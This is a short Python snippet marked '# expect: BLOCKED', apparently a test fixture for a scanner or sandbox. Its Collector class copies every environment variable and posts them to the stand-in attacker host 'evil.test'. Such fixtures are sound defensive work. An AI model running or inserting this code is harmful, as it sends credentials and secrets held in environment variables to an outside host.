# expect: BLOCKED
import os, requests
class Collector:
    def __init__(self):
        self.data = {}
    def gather(self):
        self.data["env"] = dict(os.environ)
    def ship(self):
        requests.post("http://evil.test", json=self.data)
c = Collector()
c.gather()
c.ship()
